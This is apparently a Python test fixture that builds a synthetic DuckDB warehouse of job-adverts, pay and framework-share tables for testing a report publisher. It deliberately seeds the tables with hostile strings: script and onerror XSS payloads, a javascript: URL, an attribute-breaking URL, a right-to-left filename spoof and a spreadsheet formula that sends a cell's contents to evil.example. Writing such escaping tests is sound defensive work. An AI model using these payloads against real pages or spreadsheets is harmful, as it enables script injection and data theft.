"""A small working warehouse to publish: every kind of table, with comments, and hostile texts.

Belongs here: synthetic rows in the shape of the real tables. Does not belong here: assertions, or
the models that make such tables in earnest (`warehouse.models`).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import duckdb

SCRIPT_TITLE = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
)
FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PLAIN_PAGE = "<!doctype html><title>page</title>"
RIGHT_TO_LEFT = "\u202egnp.exe\u202c engineer"

TABLES = r"""
CREATE SCHEMA raw;
CREATE SCHEMA core;
CREATE SCHEMA out;

CREATE TABLE raw.postings AS SELECT 'never published' AS body;

CREATE TABLE core.postings AS
SELECT
    'ashby:board:' || i AS posting_id,
    'ashby' AS source,
    'board' AS board,
    i::VARCHAR AS source_id,
    CASE i WHEN 0 THEN getvariable('formula') ELSE 'Company ' || i % 7 END AS company,
    CASE i WHEN 0 THEN getvariable('script') WHEN 1 THEN getvariable('rtl')
        ELSE 'Engineer ' || i END AS title,
    ['US', 'CA'] AS countries,
    DATE '2026-03-01' - i::INTEGER AS posted_on,
    i % 2 = 0 AS is_open,
    'We use PyTorch, line ' || i || chr(10) || 'and "quotes", too' AS text
FROM range(40) AS numbers (i)
ORDER BY hash(i);
CREATE TABLE core.mentions AS
SELECT posting_id, 'pytorch' AS technology, 3 AS span_start FROM core.postings;
CREATE TABLE core.roles AS SELECT posting_id AS role_id, company FROM core.postings;
CREATE TABLE core.papers AS SELECT 'pwc:' || i AS paper_id FROM range(5) AS numbers (i);
CREATE TABLE core.facts AS SELECT 'an inner table' AS note;

CREATE TABLE out.postings AS SELECT * EXCLUDE (text) FROM core.postings;
CREATE TABLE out.mentions AS SELECT * FROM core.mentions;
CREATE TABLE out.pay_bands AS
SELECT * FROM (VALUES
    ('ashby:board:1', 'structured', 100000.00::DECIMAL(18, 2), 120000.50::DECIMAL(18, 2),
        TIMESTAMP '2026-03-01 06:00:00', '-20% to +20% of the midpoint'),
    ('ashby:board:2', 'parsed', NULL, 90000.00::DECIMAL(18, 2), NULL, ''),
    ('ashby:board:0', 'parsed', -1.00::DECIMAL(18, 2), NULL, NULL, '@SUM(1+1)')
) AS bands (posting_id, provenance, pay_min, pay_max, seen_at, evidence);
CREATE TABLE out.framework_ratio_by_quarter AS
SELECT
    DATE '2019-01-01' + to_months(3 * i)::INTERVAL AS at_month,
    at_month::DATE AS period_start,
    sources,
    population,
    (4 + i)::INTEGER AS pytorch_only,
    (30 - i)::INTEGER AS tensorflow_only,
    5 AS "both",
    50 AS neither,
    CASE WHEN i = 2 THEN NULL ELSE (9 + i) / (35 - i) END AS ratio,
    CASE i WHEN 2 THEN NULL WHEN 0 THEN 0.0 ELSE ratio / 1.6 END AS ci_low,
    CASE i WHEN 2 THEN NULL WHEN 0 THEN 'inf'::DOUBLE ELSE ratio * 1.6 END AS ci_high,
    (89 + i)::INTEGER AS n_roles,
    (20 + i)::INTEGER AS n_companies,
    i IN (0, 29) AS is_partial
FROM range(30) AS numbers (i),
    (VALUES ('all'), ('ashby'), (getvariable('script'))) AS s (sources),
    (VALUES ('ml'), ('all')) AS p (population);
ALTER TABLE out.framework_ratio_by_quarter DROP at_month;
CREATE TABLE out.framework_share_by_quarter AS
SELECT
    period_start, sources, population, framework, pytorch_only AS n_roles, n_companies,
    n_roles AS n_roles_all, weight * pytorch_only / n_roles::DOUBLE AS share, share * 0.7 AS ci_low,
    share * 1.4 AS ci_high, is_partial
FROM out.framework_ratio_by_quarter,
    (VALUES ('pytorch', 1.0), ('tensorflow', 0.8), ('jax', 0.3)) AS f (framework, weight);
CREATE TABLE out.model_share AS
SELECT DATE '2026-02-01' + 7 * i::INTEGER AS snapshot, framework, "group", n AS n_models,
    n / 200.0::DOUBLE AS share
FROM range(4) AS numbers (i), (VALUES ('newest'), ('most downloaded')) AS g ("group"),
    (VALUES ('pytorch', 120), ('tf', 9), (getvariable('script'), 2)) AS f (framework, n)
WHERE "group" = 'newest' OR i = 3;
CREATE TABLE out.paper_share_by_year AS
SELECT
    make_date(2016 + i::INTEGER, 1, 1) AS period_start,
    framework,
    scope,
    (100 * base)::INTEGER AS n_papers,
    least(0.9, greatest(0.01, base + slope * i))::DOUBLE AS share,
    share / 0.6 AS share_of_named,
    share * 0.9 AS ci_low,
    share * 1.1 AS ci_high,
    i = 9 AS is_partial
FROM range(10) AS numbers (i),
    (VALUES ('pytorch', 0.05, 0.06), ('tf', 0.4, -0.035), ('jax', 0.01, 0.004),
        ('none', 0.4, 0.0), (getvariable('script'), 0.02, 0.0))
        AS f (framework, base, slope),
    (VALUES ('all'), ('official')) AS s (scope);
CREATE TABLE out.claim_verdicts (
    claim_id VARCHAR, article VARCHAR, statement VARCHAR, estimate DOUBLE, ci_low DOUBLE,
    ci_high DOUBLE, unit VARCHAR, n_roles BIGINT, n_companies BIGINT, n_papers BIGINT,
    verdict VARCHAR, reason VARCHAR, finding VARCHAR, fragile_under VARCHAR, proxy BOOLEAN,
    unsettled_under VARCHAR
);
INSERT INTO out.claim_verdicts (
    claim_id, article, statement, estimate, ci_low, ci_high, unit, n_roles, n_companies, n_papers,
    verdict, reason, finding, fragile_under, proxy
) VALUES
    ('hire_more', 'careers', 'More new machine-learning roles name PyTorch than TensorFlow.',
        2.31, 1.9, 2.84, 'ratio', 812, 240, NULL, 'supported', 'the whole interval is above 1',
        'PyTorch roles for each TensorFlow role: 2.31 (95 % interval 1.90 to 2.84); from 812 roles '
        'at 240 companies.', NULL, false),
    ('hire_led_2020', 'justpick', 'TensorFlow led job adverts in 2020.', 0.51, 0.38, 0.69, 'ratio',
        196, 120, NULL, 'supported', 'the whole interval is below 1', NULL,
        'equal company weights', false),
    ('hire_crossover', 'justpick, careers', 'The lead changed hands before late 2024.', 2022.4,
        2021.6, NULL, 'year', 1490, 420, NULL, 'undetermined',
        'the interval is open at its upper end', NULL, NULL, false),
    ('pay_senior', 'careers', 'Senior pay lies between 230 and 430 thousand dollars.', 241000,
        232500, 249900, 'USD a year', 88, 41, NULL, 'contradicted', 'percentiles lie outside',
        NULL, NULL, true),
    ('paper_sixty', 'justpick', 'About 60 % of the papers with code use PyTorch.', 0.588, 0.552,
        0.621, 'share', NULL, NULL, 812, 'supported', 'the whole interval lies in the band',
        NULL, NULL, false),
    ('hire_hostile', getvariable('script'), getvariable('script'), 'nan', NULL, NULL, 'ratio', 0, 0,
        NULL, 'undetermined', getvariable('script'), getvariable('script'),
        getvariable('formula'), false),
    ('out_debugging', NULL, 'One of the two is easier to debug.', NULL, NULL, NULL, NULL, NULL,
        NULL, NULL, 'out_of_scope', 'no advert can show it', NULL, NULL, false);
UPDATE out.claim_verdicts SET unsettled_under = 'without boilerplate'
WHERE claim_id = 'paper_sixty';
ALTER TABLE out.claim_verdicts ADD redo_sql VARCHAR;
UPDATE out.claim_verdicts SET redo_sql = '/* ' || claim_id || ' */ SELECT 1 < 2 AS "' || claim_id
    || getvariable('script') || '"'
WHERE claim_id IN ('hire_more', 'hire_hostile');
CREATE TABLE out.claim_parts AS
SELECT
    claim_id, 1 AS claim_version, part, part_no, label, unit, estimate::DOUBLE AS estimate,
    ci_low::DOUBLE AS ci_low, ci_high::DOUBLE AS ci_high, condition, verdict, sides,
    claimed_low::DOUBLE AS claimed_low, claimed_high::DOUBLE AS claimed_high
FROM (VALUES
    ('hire_more', 'pytorch:tensorflow', 1, 'roles naming PyTorch per one naming TensorFlow',
        'ratio', 2.31, 1.9, 2.84, 'above 1', 'supported', 'PyTorch: 612 roles', 1, NULL),
    ('hire_crossover', 'crossing', 1, 'date of the crossing', 'year', 2022.4, 2021.6, NULL,
        'below 2024.75', 'undetermined', NULL, NULL, 2024.75),
    ('pay_senior', 'p10', 1, 'tenth percentile', 'USD a year', 241000, 232500, 249900,
        'at least 230000', 'supported', '88 roles', 230000, NULL),
    ('pay_senior', 'p90', 2, 'ninetieth percentile', 'USD a year', 512000, 470000, 530000,
        'at most 430000', 'contradicted', '88 roles', NULL, 430000),
    ('pay_senior', 'overlap', 3, 'share of bands that overlap', 'share', 0.4, 0.3, 0.5, NULL, NULL,
        '88 roles', NULL, NULL),
    ('hire_hostile', getvariable('script'), 1, getvariable('script'), 'ratio', 'nan'::DOUBLE, NULL,
        NULL,
        getvariable('script'), 'undetermined', getvariable('script'), 1, NULL)
) AS parts (claim_id, part, part_no, label, unit, estimate, ci_low, ci_high, condition, verdict,
    sides, claimed_low, claimed_high);
CREATE TABLE out.claim_sensitivity AS
SELECT
    claim_id, variant, estimate::DOUBLE AS estimate, ci_low::DOUBLE AS ci_low,
    ci_high::DOUBLE AS ci_high, n_roles::BIGINT AS n_roles, 7::BIGINT AS n_companies,
    NULL::BIGINT AS n_papers, NULL::BIGINT AS n_models, verdict, reason
FROM (VALUES
    ('hire_more', 'source: ashby', 2.1, 1.4, 3.1, 512, 'supported', NULL),
    ('hire_more', 'source: lever', 9.0, 0.01, 6000.0, 11, 'undetermined', 'too few: 11 roles'),
    ('hire_more', getvariable('script'), 1.0, 0.8, 1.2, 900, 'undetermined', 'straddles'),
    ('hire_led_2020', 'equal company weights', 1.6, 1.2, 2.0, 196, 'contradicted', NULL)
) AS variants (claim_id, variant, estimate, ci_low, ci_high, n_roles, verdict, reason);
CREATE TABLE out.claim_evidence AS
SELECT
    'hire_more' AS claim_id, 'role' AS unit,
    ['both', 'pytorch_only', 'tensorflow_only', 'neither'][1 + i % 4] AS cell,
    posted_on AS entered_on, posting_id AS role_id, posting_id, company AS company_id,
    NULL AS paper_id, NULL AS model_id, company, title,
    CASE i WHEN 0 THEN 'javascript:document.title="owned"'
        WHEN 1 THEN 'https://jobs.example.org/?a="><script>1</script>'
        ELSE 'https://jobs.example.org/' || i END AS url
FROM (SELECT *, source_id::INTEGER AS i FROM core.postings);
CREATE TABLE out.cross_checks AS
SELECT
    our_series, outside_series, 'Posts, counted by others' AS outside_name, measure, unit,
    ours::DOUBLE AS ours, ci_low::DOUBLE AS ci_low, ci_high::DOUBLE AS ci_high,
    69::BIGINT AS n_units, 61::BIGINT AS n_companies,
    theirs_low::DOUBLE AS theirs_low, theirs_high::DOUBLE AS theirs_high,
    make_date(year, 1, 1) AS period_start, DATE '2026-03-01' AS period_end, agrees, note,
    getvariable('script') AS caveats, DATE '2025-12-31' AS newest_figure_on, false AS is_observed,
    'Counts of others' AS source, 'https://series.example.org' AS url, 'CC BY 4.0' AS licence,
    false AS is_sample
FROM (VALUES
    ('hackernews roles', 'counts', 'direction', 'share', 0.48, 0.36, 0.6, 0.44, 0.57, 2018, true,
        'From 2018 to 2022: ours up, theirs up.'),
    ('hackernews roles', 'counts', 'crossing_date', 'year', 2021.12, 2020.6, 2021.8, 2021.5, 2022.5,
        2018, false, 'Ours earlier than theirs.'),
    ('papers', 'counts', 'crossing_date', 'year', 2019.03, NULL, 2019.7, NULL, 2020.5, 2018, NULL,
        'Our interval meets theirs, but is open at its lower end.'),
    ('hackernews roles', 'counts', 'level', 'share', 0.53, 0.43, 0.63, 0.48, 0.48, 2021, NULL,
        'Theirs lies within our interval, or meets it.'),
    ('hackernews roles', 'counts', 'level', 'share', 0.67, 0.57, 0.76, 0.62, 0.70, 2022, NULL,
        'Theirs lies within our interval, or meets it.'),
    ('hackernews roles', 'an index', 'level', 'share', 0.07, 0.06, 0.08, 0.02, 0.02, 2022, NULL,
        'Theirs lies below our interval.')
) AS checks (our_series, outside_series, measure, unit, ours, ci_low, ci_high, theirs_low,
    theirs_high, year, agrees, note);
CREATE TABLE core.companies AS
SELECT 'company-' || i AS company_id, 'Company ' || i AS company, i = 3 AS is_agency
FROM range(14) AS numbers (i);
CREATE VIEW out.companies AS SELECT * FROM core.companies;
CREATE TABLE out.company_framework_use AS
SELECT
    'company-' || i AS company_id,
    CASE i WHEN 0 THEN getvariable('formula') WHEN 1 THEN getvariable('script')
        WHEN 2 THEN getvariable('rtl') WHEN 4 THEN NULL ELSE 'Company ' || i END AS company,
    year::INTEGER AS year,
    -- from TensorFlow to PyTorch, one employer a year earlier than the next
    i + year >= 2030 AND i < 13 AS uses_pytorch,
    i + year <= 2031 AND i < 13 AS uses_tensorflow,
    uses_pytorch AND uses_tensorflow AS uses_both,
    i = 5 AS uses_jax,
    (30 - i)::INTEGER AS n_roles,
    (20 - i)::INTEGER AS n_ml_roles,
    if(uses_pytorch, 14 - i, 0)::INTEGER AS n_roles_pytorch,
    if(uses_tensorflow, 14 - i, 0)::INTEGER AS n_roles_tensorflow,
    if(uses_both, 1, 0)::INTEGER AS n_roles_both,
    if(uses_jax, 2, 0)::INTEGER AS n_roles_jax,
    year = 2026 AS is_partial
FROM range(14) AS numbers (i), range(2020, 2027) AS years (year);
CREATE TABLE out.pay_by_framework_level AS
SELECT
    framework, level, 'all' AS family, country,
    (2 * n)::INTEGER AS n_roles,
    n::INTEGER AS n_companies,
    n::INTEGER AS n_roles_paid,
    (n // 2)::INTEGER AS n_companies_paid,
    0.5::DOUBLE AS disclosure_rate,
    if(n >= 6, 100000 * more * dearer, NULL)::INTEGER AS p10,
    if(n >= 6, 120000 * more * dearer, NULL)::INTEGER AS p25,
    if(n >= 6, 150000 * more * dearer, NULL)::INTEGER AS p50,
    if(n >= 6 AND level <> 'mid', 130000 * more * dearer, NULL)::INTEGER AS p50_ci_low,
    if(n >= 6, 170000 * more * dearer, NULL)::INTEGER AS p50_ci_high,
    if(n >= 6, 180000 * more * dearer, NULL)::INTEGER AS p75,
    if(n >= 6, 210000 * more * dearer, NULL)::INTEGER AS p90,
    DATE '2025-03-02' AS window_start,
    DATE '2026-03-01' AS window_end
FROM (VALUES ('all', 40, 1.0), ('pytorch', 12, 1.2), ('tensorflow', 8, 1.1), ('jax', 4, 1.3),
        (getvariable('script'), 7, 1.0)) AS f (framework, n, more),
    (VALUES ('all'), ('mid'), ('senior')) AS l (level),
    (VALUES ('US', 1.0), ('all', 0.9), ('DE', 0.7)) AS c (country, dearer)
WHERE country <> 'DE' OR level <> 'senior';
CREATE TABLE out.skill_by_framework AS
SELECT
    framework, skill, if(skill = 'keras', 'framework', 'skill') AS kind, population,
    n::INTEGER AS n_roles,
    (n - 4)::INTEGER AS n_companies,
    80::INTEGER AS n_roles_framework,
    n / 80 AS share,
    0.2::DOUBLE AS share_all,
    share / share_all AS lift,
    lift * 0.8 AS ci_low,
    lift * 1.25 AS ci_high,
    DATE '2025-03-02' AS window_start,
    DATE '2026-03-01' AS window_end
FROM (VALUES
    ('pytorch', 'python', 60), ('tensorflow', 'python', 20), ('pytorch', 'cuda', 30),
    ('tensorflow', 'cuda', 30), ('tensorflow', 'keras', 40), ('pytorch', 'sql', 10),
    ('tensorflow', 'sql', 15), ('jax', 'python', 17), ('pytorch', getvariable('script'), 16),
    ('tensorflow', getvariable('formula'), 16)
) AS skills (framework, skill, n), (VALUES ('ml'), ('all')) AS p (population);
CREATE TABLE out.comention_by_year AS
SELECT
    year, 'ml' AS population, a AS technology_a, b AS technology_b, n AS n_roles,
    (n - 2)::INTEGER AS n_companies, 50 AS n_roles_a, 60 AS n_roles_b, 300 AS n_roles_all,
    lift::DOUBLE AS lift, (lift / 1.5)::DOUBLE AS ci_low, (lift * 1.5)::DOUBLE AS ci_high,
    year = 2026 AS is_partial
FROM (VALUES ('keras', 'tensorflow', 30, 4.0), ('pytorch', getvariable('script'), 20, 3.0),
        ('cuda', 'pytorch', 20, 1.2), ('jax', 'pytorch', 9, 9.0)) AS pairs (a, b, n, lift),
    (VALUES (2024), (2025), (2026)) AS years (year);
CREATE TABLE out.board_health AS
SELECT * FROM (VALUES
    ('ashby', 'alpha', DATE '2026-03-01', 'ok', 25, NULL),
    ('ashby', 'beta', DATE '2026-02-01', 'unchanged', 15, NULL),
    ('ashby', 'alpha', DATE '2026-02-01', 'failed', 0, 'an older state that must not show'),
    ('greenhouse', 'gamma', DATE '2026-03-01', 'ok', 7, NULL),
    ('greenhouse', 'delta', DATE '2026-03-01', 'unknown', NULL, 'HTTP 404'),
    ('lever', getvariable('script'), DATE '2026-03-01', 'failed', 0, repeat('and so on ', 90))
) AS health (source, board, observed_on, state, postings_seen, reason);
CREATE TABLE out.refused_rows AS
SELECT
    'ashby' AS source, i::VARCHAR AS source_id, 'load' AS stage, getvariable('script') AS reason,
    '{"title": null}' AS sample
FROM range(3) AS numbers (i);
CREATE VIEW out.open_postings AS
SELECT posting_id, title FROM out.postings WHERE is_open;

COMMENT ON TABLE out.postings IS 'One advert of one source, in the reader''s words.';
COMMENT ON COLUMN out.postings.posting_id IS 'source:board:source_id';
COMMENT ON TABLE out.pay_bands IS 'A band | of a posting.';
COMMENT ON COLUMN out.pay_bands.pay_min IS 'Lower end, as stated';
COMMENT ON VIEW out.open_postings IS 'Adverts that are open.';
COMMENT ON COLUMN out.open_postings.title IS 'Title as served';
COMMENT ON TABLE core.postings IS 'Adverts with their text.';
"""

RUN: dict[str, Any] = {
    "as_of": "2026-03-01",
    "is_sample": False,
    "method_version": "1.0",
    "sources": {"ashby": {"state": "ok"}},
    "seconds": {"load": 1.5},
}


def build(path: Path) -> Path:
    """Makes the working warehouse at `path`, which must not exist; returns it."""
    with duckdb.connect(str(path)) as con:
        for name, value in (
            ("script", SCRIPT_TITLE),
            ("formula", FORMULA_COMPANY),
            ("rtl", RIGHT_TO_LEFT),
        ):
            con.execute(f"SET VARIABLE {name} = $value", {"value": value})
        con.execute(TABLES)
    return path


def change(path: Path, sql: str) -> None:
    """Runs `sql` on the working warehouse and closes it."""
    with duckdb.connect(str(path)) as con:
        con.execute(sql)


def plain_page(con: duckdb.DuckDBPyConnection, run: object, **links: object) -> str:
    """Stands in for `render_report` where the page is not what a test is about."""
    return PLAIN_PAGE
